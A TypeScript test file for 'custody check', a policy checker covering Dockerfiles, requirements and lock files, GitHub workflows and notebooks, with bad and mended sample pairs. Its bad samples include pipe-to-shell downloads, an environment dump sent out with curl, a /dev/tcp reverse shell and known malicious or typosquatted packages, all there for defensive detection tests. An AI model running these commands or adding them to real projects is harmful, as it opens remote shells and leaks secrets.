/** The rules that come with `custody check`: each has its metadata, is laid out, and runs on facts of every kind. */
import { readFileSync } from 'node:fs';
import { beforeAll, expect, test } from 'vitest';
import { factsOf } from '../../producers/check/read.ts';
import { readRules } from '../../source/rule-files.ts';
import { formatPolicy } from '../rego/index.ts';
import { Checker } from './checker.ts';

let modules: Readonly<Record<string, string>>;
let checker: Checker;
beforeAll(async () => {
  modules = await readRules(null);
  checker = new Checker(modules);
});

test('each has an id of its own, says why and how to mend it, and lies where its package says', () => {
  expect(checker.rules.size).toBeGreaterThan(25);
  for (const { file, kind, name, fix, why, title } of checker.rules.values()) {
    expect(file).toBe(`check/${kind}/${name}.rego`);
    for (const text of [title, why, fix]) expect(text).toMatch(/^\S.{8,}/);
  }
});

test('each is laid out as custody policy fmt does', () => {
  for (const [file, text] of Object.entries(modules)) expect(formatPolicy(text, file)).toBe(text);
});

/** What a rule refuses, and the same mended. */
const PAIRS: readonly (readonly [rule: string, path: string, bad: string, good: string])[] = [
  ['DF-001', 'Dockerfile', 'FROM python:3.12\nUSER a\n', `FROM python:3.12@sha256:${'a'.repeat(64)}\nUSER a\n`],
  ['DF-002', 'Dockerfile', 'ARG V\nFROM python\n', 'ARG V\nFROM python:${V}\n'],
  ['DF-003', 'Dockerfile', 'FROM scratch\nUSER root\n', 'FROM scratch\nUSER 1000\n'],
  [
    'DF-004',
    'Dockerfile',
    'FROM scratch\nRUN curl https://a.b/x \\\n  | sh\n',
    'FROM scratch\nRUN curl -o x https://a.b/x\n',
  ],
  [
    'DF-005',
    'Dockerfile',
    'FROM scratch\nADD https://a.b/x /x\n',
    'FROM scratch\nADD --checksum=sha256:00 https://a.b/x /x\n',
  ],
  ['DF-006', 'Dockerfile', 'FROM scratch\nENV API_KEY=abc\n', 'FROM scratch\nRUN --mount=type=secret,id=k run\n'],
  ['DF-007', 'Dockerfile', 'FROM scratch\nRUN pip install pandas\n', 'FROM scratch\nRUN pip install pandas==2.2.3\n'],
  ['REQ-001', 'requirements.txt', 'pandas>=2\n', 'pandas==2.2.3\n'],
  ['REQ-002', 'requirements.txt', 'pandas==2.2.3\n', `pandas==2.2.3 --hash=sha256:${'a'.repeat(64)}\n`],
  ['REQ-003', 'requirements.txt', '--index-url http://a.b/simple\n', '--index-url https://a.b/simple\n'],
  ['REQ-004', 'requirements.txt', '--extra-index-url https://a.b/simple\n', '--index-url https://a.b/simple\n'],
  ['REQ-005', 'requirements.txt', 'jeIlyfish==0.7.1\n', 'jellyfish==0.7.1\n'],
  ['REQ-005', 'requirements.txt', 'ultralytics==8.3.41\n', 'ultralytics==8.3.43\n'],
  ['REQ-005', 'uv.lock', '[[package]]\nname = "Torch_Triton"\n\n[[package]]\nname = "torchtriton"\nversion = "3.0.0"\n', '[[package]]\nname = "triton"\nversion = "3.0.0"\n'], // prettier-ignore
  ['REQ-005', 'yarn.lock', 'event-stream@^3.3.4:\n  version "3.3.6"\n', 'event-stream@^3.3.4:\n  version "3.3.5"\n'],
  ['REQ-006', 'requirements.txt', 'requets==2.31.0\n', 'requests==2.31.0\n'],
  ['WF-001', '.github/workflows/a.yml', workflow('uses: a/b@v4'), workflow(`uses: a/b@${'a'.repeat(40)}`)],
  [
    'WF-002',
    '.github/workflows/a.yml',
    workflow('run: echo ${{ github.head_ref }}'),
    workflow('run: echo ${{ github.sha }}'),
  ],
  [
    'WF-003',
    '.github/workflows/a.yml',
    workflow('uses: actions/checkout@v4', 'pull_request_target'),
    workflow('uses: actions/checkout@v4'),
  ],
  ['WF-004', '.github/workflows/a.yml', `permissions: write-all\n${workflow('run: x')}`, workflow('run: x')],
  ['WF-005', '.github/workflows/a.yml', workflow('run: x'), `permissions: { contents: read }\n${workflow('run: x')}`],
  [
    'WF-006',
    '.github/workflows/a.yml',
    workflow('run: curl https://a.b/x | bash'),
    workflow('run: curl -o x https://a.b/x'),
  ],
  [
    'WF-007',
    '.github/workflows/a.yml',
    workflow('run: x').replace('steps:', 'container: node:20\n    steps:'),
    workflow('run: x').replace('steps:', `container: node@sha256:${'a'.repeat(64)}\n    steps:`),
  ],
  ['WF-008', '.github/workflows/a.yml', 'a: [\n', workflow('run: x')],
  [
    'WF-009',
    '.github/workflows/a.yml',
    workflow('run: env | curl -d @- https://example.com'),
    workflow('run: env | sort'),
  ],
  [
    'WF-010',
    '.github/workflows/a.yml',
    workflow('uses: tj-actions/changed-files@v45'),
    workflow(`uses: tj-actions/changed-files@${'a'.repeat(40)}`),
  ],
  [
    'DF-008',
    'Dockerfile',
    'FROM scratch\nRUN echo aGk= | base64 -d | sh\n',
    'FROM scratch\nRUN echo aGk= | base64 -d > hi\n',
  ],
  ['NB-016', 'a.ipynb', cell('!bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'), cell('!ls /dev')],
  ['NB-004', 'a.ipynb', cell('!pip install pandas'), cell('!pip install pandas==2.2.3')],
  ['NB-005', 'a.ipynb', cell('!wget -qO- https://a.b/x | sudo bash'), cell('!wget https://a.b/x')],
  ['NB-006', 'a.ipynb', cell('open("/data/people/x.csv")'), cell('open(FOLDER)')],
  ['NB-007', 'a.ipynb', cell('pd.read_csv("http://a.b/x.csv")'), cell('pd.read_csv("http://localhost:1/x.csv")')],
];

function workflow(step: string, event = 'push'): string {
  return `on: ${event}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - ${step}\n`;
}
function cell(source: string): string {
  return JSON.stringify({ cells: [{ cell_type: 'code', source: [source], outputs: [] }] });
}

test.each(PAIRS)('%s refuses in %s, and not when it is mended', async (rule, path, bad, good) => {
  const found = async (text: string) =>
    (await factsOf(path, text)).flatMap((facts) => checker.check(facts)).map((one) => one.rule.id);
  expect(await found(bad)).toContain(rule);
  expect(await found(good)).not.toContain(rule);
});

test('this test knows of every rule but those that other tests show', () => {
  const shown = new Set(PAIRS.map(([rule]) => rule));
  const elsewhere = ['SEC-001', 'SEC-002', 'NB-001', 'NB-002', 'NB-003'];
  // Rules over the lineage of notebooks have a test of their own.
  const notebooks = readFileSync(new URL('notebook-rules.test.ts', import.meta.url), 'utf8');
  for (const [, id] of notebooks.matchAll(/'(NB-\d{3})'/g)) elsewhere.push(id!);
  const ownTests = ['airflow', 'terraform', 'dbt', 'sql'];
  const others = [...checker.rules.values()].filter(({ kind }) => !ownTests.includes(kind));
  expect(others.map(({ id }) => id).filter((id) => !shown.has(id) && !elsewhere.includes(id))).toEqual([]);
  expect(readFileSync(new URL('../../cli/check.test.ts', import.meta.url), 'utf8')).toContain('NB-008');
});
